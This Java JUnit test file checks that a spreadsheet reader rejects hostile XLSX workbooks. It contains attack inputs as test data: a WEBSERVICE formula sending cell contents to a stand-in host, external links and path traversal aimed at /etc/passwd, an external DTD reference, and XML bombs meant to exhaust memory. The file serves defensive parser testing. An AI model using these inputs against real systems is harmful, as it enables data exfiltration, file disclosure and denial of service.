package org.igworkbench.office;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import java.util.function.UnaryOperator;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.igworkbench.exchange.Reading;
import org.igworkbench.exchange.SourceFile;
import org.igworkbench.exchange.Table;
import org.igworkbench.house.BesideTheWindow;
import org.igworkbench.wording.Wording;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/// Workbooks whose outside is in order and whose parts are not.
@BesideTheWindow
@Timeout(60)
class HostileSheetTest {

  private static final String SHEET = "xl/worksheets/sheet1.xml";

  @Test
  void textThatIsTooLongIsNamedByItsCell() {
    assertThat(said(cells("<c t=\"inlineStr\"><is><t>" + "x".repeat(40_000) + "</t></is></c>")))
        .containsExactly(
            "list.xlsx!Requests!A1: The text here is longer than 32,767 characters, which is more"
                + " than a cell may hold. Shorten it.");
    assertThat(said(cells("<c t=\"inlineStr\"><is><t>" + "x".repeat(32_767) + "</t></is></c>")))
        .isEmpty();
  }

  @Test
  void sixteenThousandColumnsAreRefusedAtTheFirstTooMany() {
    assertThat(said(cells("<c><v>1</v></c>".repeat(16_000))))
        .singleElement()
        .asString()
        .startsWith("list.xlsx!Requests!ALM1: The sheet has more than 1,000 columns.");
  }

  @Test
  void everyKindOfFormulaIsNamedInHeadingsToo() {
    assertThat(
            said(
                cells(
                    "<c t=\"str\"><f>A2</f><v>code</v></c>"
                        + "<c><f t=\"shared\" ref=\"B1:B9\" si=\"0\">A1</f><v>1</v></c>"
                        + "<c><f t=\"shared\" si=\"0\"/><v>1</v></c>"
                        + "<c><f t=\"array\" ref=\"D1:D2\">A1:A2</f><v>1</v></c>"
                        + "<c><f>WEBSERVICE(&quot;http://x.invalid/&quot;&amp;A2)</f></c>")))
        .hasSize(5)
        .allSatisfy(text -> assertThat(text).contains("There is a formula here."));
  }

  @ParameterizedTest
  @ValueSource(strings = {"-1", "2958466", "1e308", "99999999999"})
  void datesOfNoCalendarAreNamedByTheirCell(String number) {
    var parts = Books.parts(good());
    change(parts, "xl/styles.xml", text -> text.replace("numFmtId=\"0\"", "numFmtId=\"14\""));
    change(
        parts,
        SHEET,
        text -> text.replace("t=\"s\" s=\"0\"><v>1</v>", "s=\"0\"><v>" + number + "</v>"));

    assertThat(said(Books.zipped(parts)))
        .containsExactly(
            "list.xlsx!Requests!A2: There is a date here that no calendar has. Correct it, or show"
                + " the cell as a number.");
  }

  @Test
  void largestNumberIsItsDigits() {
    assertThat(headings(cells("<c><v>1e308</v></c>")).getFirst()).hasSize(309).startsWith("10");
    assertThat(headings(cells("<c><v>-0</v></c>"))).containsExactly("0");
  }

  @Test
  void escapesBecomeCharactersAndHalfOnesAMark() {
    assertThat(
            headings(
                cells(
                    "<c t=\"inlineStr\"><is><t>a_x000D__x000A_b_x005F_x0041_</t></is></c>"
                        + "<c t=\"inlineStr\"><is><t>_xD83D__xDE00_$1\\</t></is></c>"
                        + "<c t=\"inlineStr\"><is><t>_xD800_ _x0000_ _xFFFF_</t></is></c>")))
        .containsExactly("a\nb_x0041_", "\uD83D\uDE00$1\\", "\uFFFD \uFFFD \uFFFD");
  }

  @Test
  void hiddenTabsAndRowsAreReadAsWhatTheyHold() {
    var parts = Books.parts(good());
    change(parts, SHEET, text -> text.replace("<row r=\"2\"", "<row r=\"2\" hidden=\"1\""));
    change(
        parts,
        "xl/workbook.xml",
        text -> text.replace("<sheet name=", "<sheet state=\"veryHidden\" name="));

    assertThat(sound(Books.zipped(parts)).rows()).hasSize(1);
  }

  @Test
  void whatAWorkbookPointsAtOutsideIsNotFollowed() {
    var parts = Books.parts(good());
    change(
        parts,
        "xl/_rels/workbook.xml.rels",
        text ->
            text.replace(
                "</Relationships>",
                "<Relationship Id=\"rIdX\" Type=\"http://schemas.openxmlformats.org/officeDocument"
                    + "/2006/relationships/externalLink\" Target=\"file:///etc/passwd\""
                    + " TargetMode=\"External\"/></Relationships>"));
    assertThat(sound(Books.zipped(parts)).rows()).hasSize(1);

    change(
        parts,
        "xl/_rels/workbook.xml.rels",
        text ->
            text.replace(
                "worksheets/sheet1.xml\"", "file:///etc/passwd\" TargetMode=\"External\""));
    damaged(Books.zipped(parts));
  }

  @Test
  void partsThatClimbOutOfTheWorkbookArePartsOfNoUse() {
    var parts = Books.parts(good());
    parts.put("../../evil.txt", new byte[] {1});
    assertThat(sound(Books.zipped(parts)).rows()).hasSize(1);

    change(
        parts,
        "xl/_rels/workbook.xml.rels",
        text -> text.replace("worksheets/sheet1.xml", "../../../etc/passwd"));
    damaged(Books.zipped(parts));
  }

  @Test
  void sheetThatIsNotThereAndPartsThatPointAtThemselvesAreDamage() {
    var missing = Books.parts(good());
    missing.remove(SHEET);
    damaged(Books.zipped(missing));

    var cyclic = Books.parts(good());
    cyclic.put(
        "xl/worksheets/_rels/sheet1.xml.rels",
        ("<Relationships><Relationship Id=\"a\" Type=\"/table\" Target=\"sheet1.xml\"/>"
                + "</Relationships>")
            .getBytes(StandardCharsets.UTF_8));
    assertThat(sound(Books.zipped(cyclic)).rows()).hasSize(1);

    change(
        cyclic,
        "xl/_rels/workbook.xml.rels",
        text -> text.replace("worksheets/sheet1", "workbook"));
    assertThat(said(Books.zipped(cyclic))).hasSize(1);
  }

  @Test
  void twoPartsOfOneNameAreDamage() {
    var parts = Books.parts(good());
    parts.put("XL/worksheets/SHEET1.xml", parts.get(SHEET));
    damaged(Books.zipped(parts));
  }

  @Test
  void workbookThatSaysItIsSomethingElseIsNone() {
    var parts = Books.parts(good());
    change(
        parts,
        "[Content_Types].xml",
        text -> text.replace("spreadsheetml.sheet.main", "wordprocessingml.document.main"));
    assertThat(said(Books.zipped(parts)))
        .singleElement()
        .asString()
        .startsWith("list.xlsx: This is not an Excel workbook.");
  }

  @ParameterizedTest
  @ValueSource(strings = {"%PDF-1.7\n", "<html><table><tr><td>code", "GIF89a", "\u0000\u0000"})
  void filesOfAnotherTypeUnderTheNameOfAWorkbookAreNone(String begin) {
    assertThat(said(begin.getBytes(StandardCharsets.UTF_8)))
        .singleElement()
        .asString()
        .startsWith("list.xlsx: This is not an Excel workbook.");
  }

  @Test
  void xmlThatOnlyFillsTheMemoryIsCutOff() {
    damaged(cells("<a>".repeat(200_000)));
    damaged(cells("<c x=\"" + "y".repeat(3_000_000) + "\"/>"));
    damaged(cells("<!--" + "<c/>".repeat(700_000) + "-->"));
    damaged(
        cells(
            IntStream.range(0, 10_000)
                .mapToObj(i -> "<a" + i + "/>")
                .collect(Collectors.joining())));
    damaged(
        cells(
            IntStream.range(0, 10_000)
                .mapToObj(i -> "<a xmlns:x=\"u" + i + "\"/>")
                .collect(Collectors.joining())));
  }

  @Test
  void stylesWithoutEndAreCutOff() {
    var parts = Books.parts(good());
    change(
        parts,
        "xl/styles.xml",
        text ->
            text.replace("</cellXfs>", "<xf numFmtId=\"0\"/>".repeat(1_000_000) + "</cellXfs>"));
    assertThat(said(Books.zipped(parts)))
        .singleElement()
        .asString()
        .startsWith("list.xlsx: The workbook would unpack to far more");
  }

  @Test
  void xmlInAnotherEncodingHidesNothing() {
    var parts = Books.parts(good());
    parts.put(
        SHEET,
        Books.text(parts.get(SHEET)).replace("UTF-8", "UTF-16").getBytes(StandardCharsets.UTF_16));
    damaged(Books.zipped(parts));
  }

  @Test
  void entitiesOfTheNetAreNotAskedFor() {
    var parts = Books.parts(good());
    change(
        parts,
        SHEET,
        text ->
            "<!DOCTYPE any SYSTEM \"http://entities.invalid/any.dtd\">"
                + text.replaceFirst("<\\?xml[^>]*>", ""));
    damaged(Books.zipped(parts));
  }

  private static void damaged(byte[] content) {
    assertThat(said(content))
        .singleElement()
        .asString()
        .startsWith("list.xlsx: The workbook is damaged");
  }

  private static void change(Map<String, byte[]> parts, String part, UnaryOperator<String> how) {
    var before = Books.text(parts.get(part));
    var after = how.apply(before);
    assertThat(after).isNotEqualTo(before);
    parts.put(part, after.getBytes(StandardCharsets.UTF_8));
  }

  /// A workbook with other cells in its first row.
  private static byte[] cells(String xml) {
    var parts = Books.parts(good());
    change(parts, SHEET, text -> text.replace("<c r=\"A1\" t=\"s\" s=\"0\"><v>0</v></c>", xml));
    return Books.zipped(parts);
  }

  private static byte[] good() {
    var workbook = new org.apache.poi.xssf.usermodel.XSSFWorkbook();
    var sheet = workbook.createSheet("Requests");
    sheet.createRow(0).createCell(0).setCellValue("reference");
    sheet.createRow(1).createCell(0).setCellValue("DSR-2026-001");
    return Books.saved(workbook);
  }

  private static Reading<Table> read(byte[] content) {
    return new PoiTableReader().read(new SourceFile("list.xlsx", content));
  }

  private static Table sound(byte[] content) {
    return ((Reading.Sound<Table>) read(content)).value();
  }

  private static List<String> headings(byte[] content) {
    return sound(content).headings();
  }

  private static List<String> said(byte[] content) {
    return read(content) instanceof Reading.Faulty<Table>(var violations)
        ? violations.stream().map(v -> v.path() + ": " + new Wording().say(v.sentence())).toList()
        : List.of();
  }
}
